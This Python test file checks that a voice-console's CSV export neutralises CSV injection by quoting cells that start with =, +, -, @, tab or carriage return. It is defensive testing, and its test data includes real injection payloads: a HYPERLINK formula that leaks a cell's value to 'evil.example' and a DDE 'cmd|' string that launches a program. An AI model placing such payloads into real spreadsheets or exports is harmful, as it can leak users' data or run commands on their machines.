"""The console's CSV export: no cell a spreadsheet would run as a formula (CSV injection), from
the rule on one cell to a chat message kept by a real server and exported over HTTP."""

from __future__ import annotations

import csv
import dataclasses
import io
from pathlib import Path

import aiohttp
import pytest

from tests.support.fakes import ScriptedAgent
from tests.support.servers import make_services
from voice.config import ServerSettings, Settings
from voice.office.backoffice import open_office
from voice.office.console import csv_cell
from voice.ops.server import start_server

PASSWORD = "correct horse battery"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (
            '=HYPERLINK("http://evil.example","click")',
            '\'=HYPERLINK("http://evil.example","click")',
        ),
        ("+1 555 0100", "'+1 555 0100"),
        ("-5", "'-5"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
    ],
)
def test_text_that_starts_like_a_formula_gets_a_quote(cell: str, written: str) -> None:
    assert csv_cell(cell) == written


@pytest.mark.parametrize(
    "cell",
    ["how do I reset it?", "a = b", "'=already quoted", " =1+1", "", "[phone]"],
)
def test_other_text_is_written_as_it_is(cell: str) -> None:
    assert csv_cell(cell) == cell


@pytest.mark.parametrize("value", [-5, 12.5, 0, True, None])
def test_numbers_and_flags_the_server_writes_are_left_alone(value: object) -> None:
    assert csv_cell(value) is value


async def test_a_formula_typed_in_a_chat_is_exported_as_text(models, tmp_path: Path) -> None:
    """The reported attack: a chat message "=HYPERLINK(...)" kept by the server and exported by
    a supervisor as CSV must not reach the spreadsheet as a formula."""
    settings = dataclasses.replace(Settings(), server=ServerSettings(data_dir=tmp_path))
    office = open_office(settings)
    office.users.add("alice", PASSWORD)
    agent = ScriptedAgent(reply="-1 is not a valid quantity.")
    runner, port = await start_server(make_services(models, agent), "127.0.0.1", 0, office)
    base = f"http://127.0.0.1:{port}"
    attack = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")'
    try:
        async with aiohttp.ClientSession() as http:
            async with http.post(f"{base}/api/chat", json={"message": attack}) as response:
                assert response.status == 200
                call_id = (await response.json())["call_id"]
            login = {"name": "alice", "password": PASSWORD}
            async with http.post(f"{base}/api/login", json=login) as response:
                auth = {"Authorization": f"Bearer {(await response.json())['token']}"}
            assert office.store.flush(10)
            query = {"format": "csv", "q": "HYPERLINK"}
            async with http.get(f"{base}/api/calls", headers=auth, params=query) as response:
                assert response.status == 200
                exported = await response.text()
    finally:
        await runner.cleanup()
        office.close()
    [row] = [row for row in csv.DictReader(io.StringIO(exported)) if row["call_id"] == call_id]
    assert row["question"] == "'" + attack
    assert row["reply"] == "'-1 is not a valid quantity."
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())
